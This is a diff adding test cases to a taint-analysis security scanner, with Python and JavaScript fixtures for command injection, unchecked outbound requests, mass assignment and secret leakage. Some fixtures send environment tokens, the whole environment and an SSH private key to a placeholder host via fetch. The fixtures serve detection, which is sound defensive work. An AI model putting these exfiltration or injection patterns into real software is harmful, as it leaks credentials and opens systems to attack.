@@ -201,3 +201,181 @@ describe('taint: bounds', () => {
     expect(r.flows[0]!.sink.line).toBe(6);
   });
 });
+
+describe('taint: string building and values the passes do not fold', () => {
+  it('Python % formatting, .format, or, conditional values and loop elements carry taint', () => {
+    const r = py(`import os
+from flask import request
+def view():
+    a = request.args["a"]
+    os.system("ls %s" % a)
+    os.system("ls {}".format(a))
+    os.system(a or "ls")
+    os.system("ls" if a == "" else a)
+    for item in request.form.getlist("x"):
+        os.system("echo " + item)
+    os.system("ls %s" % "fixed")
+`);
+    expect(lines(r)).toEqual([5, 6, 7, 8, 10]);
+  });
+
+  it('JavaScript ||, ?? and ?: carry taint; for-of elements do', () => {
+    const r = js(`const cp = require('child_process');
+function handler(req) {
+  cp.exec(req.query.a || 'ls');
+  cp.exec(req.query.b ?? 'ls');
+  cp.exec(req.query.c ? req.query.c : 'ls');
+  for (const part of req.body.parts) cp.exec(part);
+  cp.exec('' || 'ls');
+}
+`);
+    expect(lines(r)).toEqual([3, 4, 5, 6]);
+  });
+
+  it('a callback of a method on a tainted receiver receives its taint', () => {
+    const r = js(`const cp = require('child_process');
+function handler(req) {
+  req.body.cmds.forEach((c) => cp.exec(c));
+  ['ls', 'pwd'].forEach((c) => cp.exec(c));
+  Promise.resolve(req.query.x).then((v) => cp.exec(v));
+}
+`);
+    expect(lines(r)).toEqual([3, 5]);
+  });
+});
+
+describe('taint: allow-list checks', () => {
+  it('a negated membership test that leaves before the use cleans the variable (JavaScript)', () => {
+    const r = js(`const cp = require('child_process');
+const ALLOWED = ['ls', 'pwd'];
+function a(req) {
+  const c = req.query.c;
+  if (!ALLOWED.includes(c)) return;
+  cp.exec(c);
+}
+function b(req) {
+  const c = req.query.c;
+  if (!ALLOWED.includes(c)) console.log('odd');
+  cp.exec(c);
+}
+function d(req) {
+  const c = req.query.c;
+  if (ALLOWED.includes(c)) {
+    cp.exec(c);
+  }
+  cp.exec(c);
+}
+function e(req) {
+  const c = req.query.c;
+  cp.exec(c);
+  if (!ALLOWED.includes(c)) return;
+}
+`);
+    expect(lines(r)).toEqual([11, 18, 22]);
+  });
+
+  it('Python: not in with raise or abort(), in around the use, a host checked on the parsed URL', () => {
+    const r = py(`import os, requests
+from urllib.parse import urlparse
+from flask import request, abort
+ALLOWED = {"ls", "pwd"}
+HOSTS = {"api.example.com"}
+def a():
+    c = request.args["c"]
+    if c not in ALLOWED:
+        raise ValueError(c)
+    os.system(c)
+def b():
+    c = request.args["c"]
+    if c in ALLOWED:
+        os.system(c)
+def host():
+    url = request.args["u"]
+    parsed = urlparse(url)
+    if parsed.hostname not in HOSTS:
+        abort(400)
+    requests.get(url)
+def unchecked():
+    url = request.args["u"]
+    if urlparse(url).hostname not in HOSTS:
+        print("odd")
+    requests.get(url)
+`);
+    expect(lines(r)).toEqual([25]);
+  });
+});
+
+describe('taint: secrets, whole objects and method sinks', () => {
+  const secrets: TaintSpec = {
+    sources: [],
+    secretSources: [{ name: 'process.env', keys: /token|secret/i }],
+    sourceCalls: [{ name: 'fs.readFileSync', mentions: /\.ssh/ }],
+    ignoreKeys: ['headers'],
+    sinks: [
+      { name: 'fetch', arg: 0 },
+      { name: 'fetch', arg: 1 },
+    ],
+    sanitizers: [],
+  };
+  it('a secret-named variable, the whole environment and a credential file count; other variables and headers do not', () => {
+    const r = taintFlows(
+      `const fs = require('fs');
+fetch('https://x.example/?t=' + process.env.NPM_TOKEN);
+fetch(process.env.API_URL + '/health');
+fetch(u, { body: JSON.stringify(process.env) });
+fetch(u, { headers: { Authorization: process.env.API_TOKEN } });
+const key = fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa');
+fetch(u, { body: key });
+fetch(u, { body: fs.readFileSync('config.json') });
+`,
+      'javascript',
+      secrets,
+    );
+    expect(lines(r)).toEqual([2, 4, 7]);
+  });
+
+  it('a whole-object sink takes the source itself or its spread, not one of its fields; `*.name` matches any receiver', () => {
+    const spec: TaintSpec = {
+      sources: ['req.body'],
+      sinks: [
+        { name: '*.create', arg: 0, whole: true },
+        { name: 'Object.assign', arg: 1, whole: true, into: 0 },
+      ],
+      sanitizers: [],
+    };
+    const r = taintFlows(
+      `function h(req) {
+  User.create(req.body);
+  models.Post.create({ ...req.body, at: 1 });
+  User.create({ name: req.body.name });
+  User.create(req.body.name);
+  Object.assign(user, req.body);
+  Object.assign({}, req.body);
+}
+`,
+      'javascript',
+      spec,
+    );
+    expect(lines(r)).toEqual([2, 3, 6]);
+  });
+
+  it('Python: a with-statement target is its value; **kwargs reach a whole-object sink', () => {
+    const spec: TaintSpec = {
+      sources: ['request.POST'],
+      sinks: [{ name: '*.create', arg: 0, keyword: '**', whole: true }],
+      sanitizers: [],
+      sourceCalls: [{ name: 'open', mentions: /\.aws/ }],
+    };
+    const r = taintFlows(
+      `def v(request):
+    User.objects.create(**request.POST)
+    User.objects.create(**{"name": request.POST["name"]})
+    with open("/root/.aws/credentials") as fh:
+        User.objects.create(fh.read())
+`,
+      'python',
+      spec,
+    );
+    expect(lines(r)).toEqual([2]);
+  });
+});
